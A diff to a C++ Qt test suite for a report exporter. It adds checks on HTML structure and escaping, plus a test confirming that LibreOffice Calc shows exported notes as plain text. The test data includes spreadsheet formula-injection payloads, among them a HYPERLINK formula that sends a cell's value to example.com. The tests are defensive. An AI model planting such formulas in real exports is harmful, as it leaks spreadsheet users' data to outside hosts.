@@ -12,8 +12,12 @@
 #include <QProcess>
 #include <QSqlDatabase>
 #include <QSqlQuery>
+#include <QStandardPaths>
 #include <QTemporaryDir>
+#include <QUrl>
 #include <QVariant>
+#include <utility>
+#include <vector>
 
 #include "AppState.h"
 #include "report/OdtOutline.h"
@@ -276,9 +280,12 @@ TEST_F(QuickTaxOdt, TotalsHaveALineAboveAndOtherRowsNone)
         EXPECT_EQ(TopBorderOf(text), "none") << text;
 }
 
-TEST_F(ReportExport, HtmlIsTheRenderedPage)
+TEST_F(ReportExport, HtmlIsTheRenderedPageInStandardsModeAndUtf8)
 {
-    EXPECT_TRUE(ReadBytes(Export("quicktax.html")).contains("118 326.00"));
+    const QByteArray html = ReadBytes(Export("quicktax.html"));
+    EXPECT_TRUE(html.contains("118 326.00"));
+    EXPECT_TRUE(html.startsWith("<!DOCTYPE html>\n")) << html.left(80).toStdString();
+    EXPECT_EQ(html.count("<meta charset=\"utf-8\">"), 1);
 }
 
 TEST_F(ReportExport, OtherFileEndingsAreRefusedAndNothingIsWritten)
@@ -360,7 +367,40 @@ TEST_F(OwnLayout, TextValuesAreHtmlEscaped)
 {
     const QString html = Render("<b>x</b> & 'y'", 0);
     EXPECT_FALSE(html.contains("<b>")) << html.toStdString();
-    EXPECT_TRUE(html.contains("&lt;b&gt;x&lt;/b&gt; &amp; ")) << html.toStdString();
+    EXPECT_TRUE(html.contains("&lt;b&gt;x&lt;/b&gt; &amp; &#39;y&#39;")) << html.toStdString();
+}
+
+// A spreadsheet opening the HTML export (LibreOffice Calc, as a user opens the file there)
+// shows every text as it was typed, a formula's signs and all, and every amount as a number.
+TEST_F(OwnLayout, ASpreadsheetShowsTheHtmlExportsTextsAsTypedAndItsAmountsAsNumbers)
+{
+    const QString office = QStandardPaths::findExecutable("soffice");
+    const QDir program = QFileInfo(QFileInfo(office).canonicalFilePath()).dir();
+    if (office.isEmpty() || !QFileInfo::exists(program.filePath("../share/.registry/calc.xcd")))
+        GTEST_SKIP() << "LibreOffice Calc is not installed (libreoffice-calc-nogui)";
+    const std::vector<std::pair<std::string, double>> typed{
+        {"=1+2", 1800}, {"=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")", -5.5}, {"+27 82 555 0100", 0.25},
+        {"-A1", -120}, {"@SUM(1)", 3}, {"D'Oliveira", 4}, {"-5", 6}, {"Zoë Müller", 7}};
+    std::vector<ReportRow> rows;
+    QStringList expected; // Calc's CSV of the sheet: text quoted, numbers bare
+    for (const auto& [note, amount] : typed) {
+        rows.push_back({{"NOTE", note}, {"AMOUNT", amount}});
+        expected << (note == "-5" ? "-5" : "\"" + QString::fromStdString(note).replace("\"", "\"\"") + "\"") + ","
+                        + QString::number(amount);
+    }
+    WriteBytes(QDir(installFolder.path()).filePath("layouts/list.rpt"),
+               "<!-- revora-table: notes -->\n<table>{{#rows}}<tr><td>{{NOTE}}</td><td>{{AMOUNT}}</td></tr>{{/rows}}"
+               "</table>\n");
+    const QString html = InFolder("notes.html");
+    ExportReport(WriteAndRenderMultiRowReport(state, {"notes", "list.rpt", "Notes"}, rows).html, html);
+    QProcess calc;
+    calc.start(office, {"--headless", "--norestore",
+                        "-env:UserInstallation=" + QUrl::fromLocalFile(InFolder("office")).toString(),
+                        "--infilter=HTML (StarCalc)", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true",
+                        "--outdir", InFolder("csv"), html});
+    ASSERT_TRUE(calc.waitForFinished(180000) && calc.exitCode() == 0) << calc.readAllStandardError().toStdString();
+    const QString sheet = QString::fromUtf8(ReadBytes(InFolder("csv/notes.csv"))).remove('\r').trimmed();
+    EXPECT_EQ(sheet.toStdString(), expected.join('\n').toStdString());
 }
 
 TEST_F(OwnLayout, TextIsStoredExactlyAsGiven)
